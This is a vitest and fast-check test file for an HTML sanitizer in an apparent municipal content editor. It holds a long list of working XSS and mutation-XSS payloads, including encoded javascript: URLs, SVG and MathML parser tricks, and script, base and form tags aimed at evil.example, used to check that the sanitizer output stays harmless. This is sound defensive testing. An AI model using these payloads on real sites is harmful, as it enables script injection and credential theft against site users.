import { array, assert, constantFrom, property } from "fast-check";
import { describe, expect, test } from "vitest";
import { sanitizeHtml } from "./sanitize.ts";

const ADDRESS = String.raw`(?:https?:|mailto:|tel:|\/(?!\/)|#|\?|[^"<>\s\\:/?#]*(?=[/?#"]))[^"<>\s\\]*`;
const CLASS = String.raw`(?: class="rt-[a-z-]+(?: rt-[a-z-]+)*")?`;
const TAG = new RegExp(
  [
    String.raw`^<(?:\/(?:p|h[2-4]|[uo]l|li|blockquote|table|tbody|t[rhd]|strong|em|[us]|su[pb]|span|a|cite)`,
    String.raw`|(?:p|h[2-4])${CLASS}|span class="rt-[a-z-]+(?: rt-[a-z-]+)*"`,
    String.raw`|t[hd](?: colspan="\d\d?")?(?: rowspan="\d\d?")?`,
    String.raw`|(?:ul|li|blockquote|table|tbody|tr|strong|em|[us]|su[pb])|[hb]r \/`,
    String.raw`|ol(?: start="\d{1,4}")?(?: type="[aAiI]")?`,
    `|cite data-reference="[a-z]+:[A-Za-z0-9.-]+"(?: data-window="new")?|a href="${ADDRESS}" rel="noopener"`,
    String.raw`|img src="\/user\/file\/[^"<>\s\\]+" alt="[^"<>]*"(?: width="\d{1,4}")?(?: height="\d{1,4}")?${CLASS} \/)>$`,
  ].join(""),
);

/** Every "<" must start a complete tag of the allow list; the output may contain nothing else. */
function expectHarmless(html: string, from: string): void {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) expect(tag, `of ${from.slice(0, 200)}`).toMatch(TAG);
  expect(html.replaceAll(/<[^>]*>/g, ""), `text of ${from.slice(0, 200)}`).not.toMatch(/[<>]/);
}

/**
 * Based on the XSS collections of OWASP and PortSwigger, and on published mXSS attacks against DOMPurify and others.
 */
const HOSTILE: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script\u0000>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  '<img src="x:gif" onerror="alert(1)" alt="`><script>alert(1)</script>">',
  "<img/src='/user/file/a.png'/onload=alert(1)>",
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="/user/file/../../api/sign-out">',
  '<img src="/user/file/..%2f..%2fapi">',
  '<img src="http://tracker.example/x.png">',
  '<table><tr><td class="rt-red" style="background:url(x)" colspan="9999" onclick=alert(1)>',
  '<span class="rt-red x" style="position:fixed" onclick=alert(1)>x</span>',
  "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption><tr><td><table>",
  '<img src="https://a@evil.example/x.png">',
  '<img src="/user/file/a.png" alt="&quot; onerror=&quot;alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  String.raw`<a href="/\evil.example">x</a>`,
  String.raw`<a href="\\evil.example">x</a>`,
  '<a href="/\t/evil.example">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="https://x.example" onmouseover="alert(1)" style="position:fixed;inset:0" class="law" id="main" target="_top">x</a>',
  '<a href="https://x.example/&quot; onclick=&quot;alert(1)">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)>",
  "<object data=javascript:alert(1)><embed src=x></object>",
  "<base href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=//evil.example>",
  "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<style>@import '//evil.example'</style><p style='background:url(javascript:alert(1))'>x</p>",
  "<p class=law id=main name=x data-x=1 dir=rtl hidden tabindex=1 contenteditable>x</p>",
  "<template><script>alert(1)</script></template>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><?php echo 1 ?>",
  "<!DOCTYPE html><html><head><title>x</title></head><body onload=alert(1)>y</body></html>",
  "<isindex action=javascript:alert(1)>",
  '<a href="x"><a href="y" onclick=alert(1)>',
  '<p title="<script>alert(1)</script>">x',
  "<p <script>alert(1)</script>",
  "<p/onclick=alert(1)>x",
  "</p></div></main></body><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  "<input autofocus onfocus=alert(1)><select onchange=1><option><style></option></select><img src=x onerror=alert(1)></style>",
  '<ol start="1 onclick=alert(1)"><li value=javascript:1>x</ol>',
  "\u2028<scr\u00adipt>alert(1)</script>",
  "<a href='https://x.example/?a=1&b=<2>'>x</a>",
  '<cite data-reference="javascript:alert(1)">x</cite>',
  '<cite data-reference="document:1&quot; onclick=&quot;alert(1)" onclick=alert(1) data-window="_blank">x<cite data-reference="a:1">',
  "<constructor __proto__=x></constructor><a __proto__=1 constructor=2 href=https://x.example>x</a>",
];

describe("Sanitized HTML", () => {
  test("[OPEN-126] keeps everything that the editor toolbar produces", () => {
    const html =
      '<h2>Storm</h2><h3>Roads</h3><p>The <strong>office</strong> is <em>closed</em> <u>today</u>.<br />Call <a href="tel:+13155550100" rel="noopener">us</a>.</p>' +
      '<ul><li><p>One</p></li></ul><ol start="3"><li>Three</li></ol><blockquote><p>Be safe.</p></blockquote><hr /><img src="/user/file/LA0001/storm.png" alt="A storm" width="320" height="200" />';
    expect(sanitizeHtml(html)).toBe(html);
  });

  test("[OPEN-126] normalizes legacy tags to those of the toolbar", () => {
    expect(sanitizeHtml("<h1>A</h1><h5>B</h5><div><b>c</b> <i>d</i></div>")).toBe(
      "<h2>A</h2><h4>B</h4><p><strong>c</strong> <em>d</em></p>",
    );
    expect(sanitizeHtml('<dl><dt>Text</dt></dl><font color="red">stays</font>')).toBe("Textstays");
  });

  test("[OPEN-126] allows only web, mail, phone and site links, each with rel=noopener", () => {
    const link = (href: string): string => sanitizeHtml(`<a href="${href}" target="_blank">x</a>`);
    for (const [typed, completed] of [
      ["www.larkmere.example/fees", "https://www.larkmere.example/fees"],
      ["larkmere.gov", "https://larkmere.gov"],
      ["clerk@larkmere.gov", "mailto:clerk@larkmere.gov"],
    ])
      expect(link(typed ?? "")).toBe(`<a href="${completed}" rel="noopener">x</a>`);
    for (const href of [
      "https://x.example/a?b=1#c",
      "http://x.example",
      "mailto:clerk@x.example",
      "tel:+1-315-555-0100",
      "/LA0001/home",
      "#12",
      "?q=1",
      "home",
    ])
      expect(link(href)).toBe(`<a href="${href}" rel="noopener">x</a>`);
    for (const href of [
      "javascript:alert(1)",
      "data:text/html,x",
      "//evil.example",
      "ftp://x.example",
      "file:///etc/passwd",
      "",
      "java script:x",
    ])
      expect(link(href)).toBe("x");
  });

  test("[OPEN-126] allows only stored images, because pages show no others", () => {
    expect(sanitizeHtml('<img src="/user/file/LA0001/a.png" alt="Seal" width="10" height="x">')).toBe(
      '<img src="/user/file/LA0001/a.png" alt="Seal" width="10" />',
    );
    for (const src of [
      "http://x.example/a.png",
      "https://x.example/a.png",
      "data:image/png;base64,AA",
      "/user/file/../x.png",
      "/api/x",
      "a.png",
      "//x.example/a.png",
      "blob:x",
      "",
    ])
      expect(sanitizeHtml(`a<img src="${src}">b`)).toBe("ab");
  });

  test.each(HOSTILE)("[OPEN-126] is harmless: %s", (hostile) => {
    for (const whole of [
      hostile,
      `<p>${hostile}</p>`,
      `<ul><li>${hostile}`,
      hostile.repeat(3),
      `<blockquote><a href="/x">${hostile}`,
    ]) {
      const clean = sanitizeHtml(whole);
      expectHarmless(clean, whole);
      expect(sanitizeHtml(clean)).toBe(clean);
    }
  });

  test("[OPEN-126] is harmless for any combination of attack fragments", () => {
    const pieces = [
      ...HOSTILE,
      "<",
      ">",
      '"',
      "'",
      "`",
      "=",
      "/",
      "--",
      "<p ",
      "<a href=",
      "</",
      "&lt;",
      "&#60;",
      "\u0000",
      "]]>",
      "<svg>",
      "<math>",
      "<style>",
      "</style>",
      "<!--",
      "-->",
    ];
    assert(
      property(array(constantFrom(...pieces), { maxLength: 8 }), (parts) => {
        const whole = parts.join("");
        const clean = sanitizeHtml(whole);
        expectHarmless(clean, whole);
        expectHarmless(sanitizeHtml(clean), clean);
      }),
      { numRuns: 1500 },
    );
  });

  test("[OPEN-126] keeps long HTML complete, and escapes HTML with too many tags", () => {
    const long = `<p>${"law ".repeat(25)}</p>`.repeat(9500);
    expect(long.length).toBeGreaterThan(1_000_000);
    expect(sanitizeHtml(long)).toBe(long);
    for (const many of ["<div>", "<b>", "<a href=x>", "<b><!--</b>-->"])
      expectHarmless(sanitizeHtml(many.repeat(50_000)), many);
    expectHarmless(sanitizeHtml("<".repeat(1_000_000)), "<");
    expectHarmless(sanitizeHtml(`<a ${"b=1 ".repeat(250_000)}`), "attributes");
    expectHarmless(sanitizeHtml("<b>".repeat(9_999)), "maximum depth");
  });
});
